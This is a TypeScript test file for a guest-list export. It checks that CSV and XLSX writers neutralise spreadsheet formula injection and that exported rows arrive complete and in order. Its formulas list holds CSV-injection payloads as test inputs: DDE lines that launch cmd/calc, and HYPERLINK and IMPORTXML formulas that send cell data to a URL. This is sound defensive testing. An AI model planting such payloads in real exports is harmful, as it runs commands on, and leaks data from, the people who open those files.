import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { type CardsWorld, createCardsWorld } from '@iyk/dev/cards-world.ts'
import { parse } from 'csv-parse/sync'
import { readSheet } from 'read-excel-file/node'
import { collect } from '../../collectibles/collect.ts'
import { writeCsv } from './write-csv.ts'
import { writeXlsx } from './write-xlsx.ts'

let world: CardsWorld
const acts: unknown[] = []
before(async () => {
  world = await createCardsWorld({}, { recordAct: async (act) => void acts.push(act) })
})
after(() => world.close())

/** What spreadsheets compute, send or run when a cell begins with it, and what must come back as it was written. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  `=cmd|'/c calc'!A0`,
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("https://example.com/?x="&A1,"click")',
  '=IMPORTXML("https://example.com","//a")',
  "-2+3+cmd|' /C calc'!A0",
]
const texts = [
  'ada@example.com',
  '',
  'a,b;c',
  'say "hello"',
  'two\nlines',
  'two\r\nlines',
  'Größe Ærø Łódź',
  '喫茶店 ｶﾌｪ',
  'مرحبا שלום',
  '👩‍👩‍👧‍👦 🇵🇹',
  '0012',
  '1e5',
  '2026-11-20',
  "'quoted",
  '<b>&amp;</b>',
  ' _x000D_ ',
]

async function* rowsOf(cells: readonly string[]) {
  for (const cell of cells) yield [cell, 'next']
}
const bytesOf = async (stream: ReadableStream<Uint8Array>) => Buffer.from(await new Response(stream).arrayBuffer())

test('security 141: no cell of a CSV begins with what a spreadsheet computes, and another parser reads every text as it was', async () => {
  const bytes = await bytesOf(writeCsv(rowsOf([...formulas, ...texts])))
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
  const rows: string[][] = parse(bytes, { bom: true })
  assert.deepEqual(
    rows.map(([cell]) => cell),
    [...formulas.map((text) => `'${text}`), ...texts],
  )
  assert.ok(rows.every(([, next]) => next === 'next'))
  for (const [cell = ''] of rows) assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/)
})

test('security 141: every cell of a workbook is a text that says so, and another library reads it as it was', async () => {
  const bytes = await bytesOf(
    writeXlsx(rowsOf([...formulas, ...texts]), { name: 'Gäste', header: ['First', 'Second'] }),
  )
  const rows = await readSheet(bytes, { trim: false })
  assert.deepEqual(rows[0], ['First', 'Second'])
  assert.deepEqual(
    rows.slice(1).map(([cell]) => cell ?? ''),
    [...formulas, ...texts],
  )
})

test('an exported guest list has every guest in order, whatever its length, and is recorded before it is sent', async () => {
  const event = await world.event({ end_date: '2026-12-01T00:00' })
  const card = await world.card({ eventId: event.id })
  const bearer = { userId: 'ada', verifiedEmails: ['=1+1@example.com'] }
  const { id } = (await collect(world.context, { ref: await world.tap(card), bearer })).collectible
  const shared = await world.ask(`PUT /api/collectibles/${id}/sharing`, {
    as: 'ada',
    emails: bearer.verifiedEmails,
    body: { email: '=1+1@example.com' },
  })
  assert.equal(shared.status, 200)
  // More than one part of the export.
  await world.database.pool.query(
    `with one as (
       insert into cards.collectors (created_at) select now() from generate_series(1, 2500) returning collector_id),
     tap as (
       insert into cards.taps (card_id, key_version, counter, ref_hash, first_seen_at, spent_at)
       select $2, 1, 100 + n, sha256(int4send(n)), now(), now() from generate_series(1, 2500) n returning counter)
     insert into cards.collectibles (event_id, version, serial, collector_id, card_id, key_version, counter, collected_at)
     select $1, e.version, 1 + n, one.collector_id, $2, 1, 100 + n, '2026-11-20T19:00:00Z'
     from (select collector_id, row_number() over () as n from one) one, cards.poap_events e where e.event_id = $1`,
    [event.id, card.id],
  )
  acts.length = 0
  const download = (format: string) =>
    world.ask(`GET /api/poap-events/${event.id}/guests/export?format=${format}`, {
      as: 'holder',
      headers: { 'accept-language': 'de' },
    })
  const csv = await download('csv')
  assert.match(String(csv.headers['content-type']), /^text\/csv/)
  assert.match(String(csv.headers['content-disposition']), /^attachment; filename="guests-[a-z0-9-]+\.csv"$/)
  assert.equal(csv.headers['cache-control'], 'no-store')
  const rows: string[][] = parse(csv.bytes, { bom: true })
  assert.deepEqual(rows.slice(0, 2), [
    ['Nummer', 'Gesammelt (UTC)', 'E-Mail', 'Über'],
    ['1', '2026-11-20 19:00:00', "'=1+1@example.com", 'Karte'],
  ])
  const xlsx = await download('xlsx')
  const sheet = await readSheet(xlsx.bytes)
  assert.deepEqual(sheet[1], ['1', '2026-11-20 19:00:00', '=1+1@example.com', 'Karte'])
  for (const all of [rows, sheet])
    assert.deepEqual(
      all.slice(1).map(([number]) => Number(number)),
      Array.from({ length: 2501 }, (_, place) => place + 1),
    )
  assert.deepEqual(
    acts.map((act) => (act as { act: string; subject: string }).act),
    ['poap_events.guests.export', 'poap_events.guests.export'],
  )
  const wrong = await download('html')
  assert.equal(wrong.status, 400)
})
